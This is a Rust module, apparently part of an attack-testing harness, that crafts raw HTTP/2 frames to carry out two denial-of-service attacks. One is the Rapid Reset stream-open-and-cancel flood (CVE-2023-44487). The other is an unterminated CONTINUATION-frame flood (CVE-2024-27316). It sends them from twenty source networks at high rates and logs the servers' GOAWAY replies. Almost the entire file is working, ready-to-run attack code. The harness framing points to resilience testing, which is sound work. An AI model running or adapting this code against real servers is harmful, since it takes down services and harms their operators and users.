//! HTTP/2 frames written by hand: streams opened and reset at once (CVE-2023-44487), and heads that never end
//! (CVE-2024-27316 and its kin).

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::Attacking;
use crate::arena::{Arena, addresses};
use crate::client::connect;

const RESETTING: usize = 20;
const CONTINUING: usize = 20;
/// Streams, or CONTINUATION frames, a connection writes at once, and the pause after it.
const BURST: u32 = 50;
const PAUSE: Duration = Duration::from_millis(100);
const FRAME_HEADERS: u8 = 1;
const FRAME_RST_STREAM: u8 = 3;
const FRAME_SETTINGS: u8 = 4;
const FRAME_GOAWAY: u8 = 7;
/// Of what the other side says, so much is looked at.
const TOLD_BYTES_MAX: usize = 16 * 1024;
const FRAME_CONTINUATION: u8 = 9;
const END_STREAM_AND_HEADERS: u8 = 0x5;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// Both, from twenty networks: at most 10,000 streams and 10,000 frames of 1 KiB a second.
pub fn http2(arena: Arc<Arena>) -> Attacking {
    Box::pin(async move {
        let from = addresses(20);
        let mut held = JoinSet::new();
        for number in 0..RESETTING {
            held.spawn(again(Arc::clone(&arena), from[number % from.len()], false));
        }
        for number in 0..CONTINUING {
            held.spawn(again(Arc::clone(&arena), from[number % from.len()], true));
        }
        while held.join_next().await.is_some() {}
    })
}

async fn again(arena: Arc<Arena>, from: Ipv4Addr, continuing: bool) {
    loop {
        if let Ok(mut stream) = connect(from, arena.to.address).await {
            let mut told = Vec::new();
            let _ = if continuing {
                continuation(&arena, &mut stream, &mut told).await
            } else {
                resets(&arena, &mut stream, &mut told).await
            };
            let what = if continuing { "continuation" } else { "resets" };
            match goodbye(&told) {
                Some(code) => arena.tally.note(&format!("{what}: GOAWAY {code}")),
                None => arena.tally.note(&format!("{what}: closed")),
            }
        } else {
            arena.tally.note("not connected");
        }
        tokio::time::sleep(PAUSE).await;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `GET /` of the site, without a dynamic table: each name of the static one with a literal value.
fn head(host: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x84, 0x86];
    let length = u8::try_from(host.len().min(126)).unwrap_or_default();
    block.extend([0x01, length]);
    block.extend(&host.as_bytes()[..usize::from(length)]);
    block
}

fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // The other side's settings are never acknowledged: whoever attacks does not wait for them.
    bytes.extend(frame(FRAME_SETTINGS, 0, 0, &[]));
    bytes
}

async fn resets(arena: &Arena, stream: &mut TcpStream, told: &mut Vec<u8>) -> std::io::Result<()> {
    let head = head(&arena.to.host);
    stream.write_all(&preface()).await?;
    let (mut reading, mut writing) = stream.split();
    let writes = async {
        for id in 0.. {
            let mut burst = Vec::new();
            for place in 0..BURST {
                let stream = 1 + 2 * (id * BURST + place);
                burst.extend(frame(FRAME_HEADERS, END_STREAM_AND_HEADERS, stream, &head));
                burst.extend(frame(FRAME_RST_STREAM, 0, stream, &CANCEL));
                arena.tally.sent();
            }
            writing.write_all(&burst).await?;
            tokio::time::sleep(PAUSE).await;
        }
        Ok(())
    };
    tokio::select! {
        ended = writes => ended,
        () = drained(&mut reading, told) => Ok(()),
    }
}

async fn continuation(arena: &Arena, stream: &mut TcpStream, told: &mut Vec<u8>) -> std::io::Result<()> {
    stream.write_all(&preface()).await?;
    let (mut reading, mut writing) = stream.split();
    // A literal header without indexing: one name byte, an empty value.
    let filler: Vec<u8> = [0x00, 0x01, b'x', 0x00].repeat(256);
    let writes = async {
        // Neither END_STREAM nor END_HEADERS.
        writing.write_all(&frame(FRAME_HEADERS, 0, 1, &head(&arena.to.host))).await?;
        loop {
            let mut burst = Vec::new();
            for _ in 0..BURST {
                burst.extend(frame(FRAME_CONTINUATION, 0, 1, &filler));
                arena.tally.sent();
            }
            writing.write_all(&burst).await?;
            tokio::time::sleep(PAUSE).await;
        }
    };
    tokio::select! {
        ended = writes => ended,
        () = drained(&mut reading, told) => Ok(()),
    }
}

/// Reads until the other side closes, and keeps the begin of it.
async fn drained(from: &mut (impl tokio::io::AsyncRead + Unpin), told: &mut Vec<u8>) {
    let mut bytes = [0; 8192];
    while let Ok(count @ 1..) = from.read(&mut bytes).await {
        let room = TOLD_BYTES_MAX.saturating_sub(told.len());
        told.extend_from_slice(&bytes[..count.min(room)]);
    }
}

/// The error code of a GOAWAY among these frames (RFC 9113 §7), if there is one.
fn goodbye(mut frames: &[u8]) -> Option<u32> {
    while let Some((head, rest)) = frames.split_first_chunk::<9>() {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let payload = rest.get(..length)?;
        if head[3] == FRAME_GOAWAY {
            return payload.get(4..8)?.try_into().ok().map(u32::from_be_bytes);
        }
        frames = &rest[length..];
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_code_of_a_goodbye_is_found_behind_other_frames() {
        let last_stream_and_code = [0, 0, 0, 7, 0, 0, 0, 11];
        let frames = [frame(FRAME_SETTINGS, 0, 0, &[]), frame(FRAME_GOAWAY, 0, 0, &last_stream_and_code)].concat();
        assert_eq!(goodbye(&frames), Some(11));
        assert_eq!(goodbye(&frames[..frames.len() - 1]), None);
    }
}
